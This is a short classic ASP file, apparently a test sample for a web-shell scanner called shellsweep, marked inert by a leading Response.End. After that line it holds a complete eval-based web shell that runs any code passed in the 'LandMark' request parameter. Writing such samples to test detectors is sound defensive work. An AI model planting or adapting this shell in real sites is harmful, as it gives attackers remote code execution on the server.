<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Class LandMark
  Private Sub Class_Initialize
    eval	(request("LandMark"))
  End Sub
End Class
Set X = New LandMark
%>
